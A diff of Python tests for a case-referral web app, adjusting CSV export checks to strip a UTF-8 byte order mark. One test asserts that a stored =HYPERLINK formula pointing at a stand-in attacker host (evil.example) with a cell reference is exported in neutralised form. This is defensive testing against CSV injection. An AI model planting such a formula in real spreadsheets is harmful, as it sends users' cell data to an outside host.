@@ -88,7 +88,9 @@ def test_a_draft_is_not_in_the_target_heads_history_until_it_is_sent(web: WebSer
     assert _post(referring, f"/api/cases/{case_id}/submit", {"version": 1}).status_code == 200
     assert regional_head.get(f"/api/cases/{case_id}").status_code == 200
     assert case_id in listed(regional_head)
-    rows = list(csv.DictReader(io.StringIO(exported(regional_head))))
+    exported_text = exported(regional_head)
+    assert exported_text.startswith("\ufeff")  # the byte order mark Excel needs for UTF-8
+    rows = list(csv.DictReader(io.StringIO(exported_text.removeprefix("\ufeff"))))
     assert [r["question"] for r in rows if r["id"] == str(case_id)] == [
         "Секретный вопрос черновика"]
 
@@ -127,7 +129,8 @@ def test_the_history_csv_carries_no_formula(web: WebServer) -> None:
         "study_uids": [CITY_STUDY], "target_institution": "regional-center"})
     assert created.status_code == 200, created.text
     text = web.login("sidorov").get("/api/history/cases", params={"format": "csv"}).text
-    [row] = [r for r in csv.DictReader(io.StringIO(text)) if r["id"] == str(created.json()["id"])]
+    [row] = [r for r in csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
+             if r["id"] == str(created.json()["id"])]
     assert row["question"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"
     bad_offset = web.login("sidorov").get("/api/audit", params={"offset": str(2**70)})
     assert bad_offset.status_code == 400
